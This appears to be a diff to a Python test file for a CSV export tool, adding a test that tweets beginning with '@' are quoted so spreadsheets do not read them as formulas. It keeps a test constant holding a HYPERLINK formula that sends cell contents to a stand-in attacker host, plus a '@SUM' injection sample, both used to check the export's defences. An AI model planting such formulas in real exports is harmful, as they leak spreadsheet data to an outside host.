@@ -40,6 +40,7 @@ from segmint.store.csvsafe import (
     neutralize_table,
     table_to_csv,
 )
+from tests.conftest import shared_file
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 RULE = "@SUM(1+1)"
@@ -272,6 +273,27 @@ def test_cli_value_export_is_safe(shop: Shop) -> None:
     assert_safe(got, numeric)
     ids = [row[got[0].index("customer_id")] for row in got[1:]]
     assert "'" + HOSTILE_IDS[0] in ids and "'-12" in ids
+
+
+def test_real_tweets_export_keeps_every_tweet_as_text(tmp_path: Path) -> None:
+    """Twitter US Airline Sentiment as customers with attributes: almost every tweet starts
+    with '@airline', which a spreadsheet reads as a formula. The features CSV (what
+    ``segmint features --out`` writes) quotes them and leaves the numbers alone."""
+    tweets = shared_file("twitter_us_airline_sentiment", "Tweets.csv")
+    with segmint.Workspace(tmp_path / "t.duckdb") as ws:
+        ws.ingest(tweets, into="customers", mapping={"customer_id": "tweet_id"})
+        ws.clean()
+        table = ws.features()
+        numeric = {n for n, t in table.schema().items() if t.is_numeric()}
+        table.to_csv(tmp_path / "plain.csv")
+        table_to_csv(table, tmp_path / "features.csv")
+    plain, got = read_rows(tmp_path / "plain.csv"), read_rows(tmp_path / "features.csv")
+    assert_safe(got, numeric)
+    assert [[original(c) for c in row] for row in got] == plain
+    text = [row[got[0].index("text")] for row in got[1:]]
+    quoted = sum(c.startswith("'@") for c in text)
+    assert quoted > 0.95 * len(text), (quoted, len(text))  # 14,021 of 14,485 rows
+    assert {"airline_sentiment_confidence", "retweet_count"} <= numeric
 
 
 # ------------------------------------------------------------------ the server, over HTTP
